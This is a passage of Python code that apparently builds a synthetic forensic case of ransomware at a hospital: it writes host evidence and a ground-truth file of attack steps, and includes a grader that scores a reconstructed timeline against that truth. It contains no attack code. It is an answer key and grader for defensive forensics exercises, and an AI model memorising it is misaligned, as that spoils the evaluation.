    for name, h in (("DC01", dc), ("FS01", fs)):
        evidence += h.write(out / name)
    for i in range(hosts - 4):
        ws = WinHost(f"WS{21 + i:02d}.hosp.local", random.Random(rng.random()))
        _windows_background(ws, random.Random(rng.random()), span, False, 1)
        evidence += ws.write(out / f"WS{21 + i:02d}")
    for h in (app, db):
        h.write_logs()
        evidence.append(h.image(out / f"{h.hostname}.raw", exe))
    shutil.rmtree(work, ignore_errors=True)
    truth = {"case": "sample hospital ransomware", "zone": "Asia/Kolkata", "seed": seed, "days": days, "hosts": hosts,
             "attack_start_local": "2022-11-23T07:00:00+05:30", "steps": [asdict(s) for s in steps]}
    (out / "ground_truth.json").write_text(json.dumps(truth, indent=2) + "\n")
    return {"directory": str(out), "evidence": [str(p) for p in evidence], "ground_truth": truth}


def check(story: Any, truth: dict[str, Any], tolerance: str = "15min") -> list[dict[str, Any]]:
    """Match the reconstructed story to the ground truth, step by step: a step is found when a finding
    on the same host with one of its techniques lies within ``tolerance`` of its time."""
    import pandas as pd

    tol = pd.Timedelta(tolerance)
    out = []
    for s in truth["steps"]:
        t = pd.Timestamp(s["time_utc"])
        if story.empty:
            hit = story
        else:
            hit = story[(story["host"].astype(str).str.lower() == s["host"].lower())
                        & story["technique"].isin(s["techniques"]) & ((story["timestamp"] - t).abs() <= tol)]
        out.append({**s, "found": not hit.empty,
                    "finding": hit.iloc[0]["finding"] if not hit.empty else None,
                    "found_at": hit.iloc[0]["timestamp"].isoformat() if not hit.empty else None})
    return out
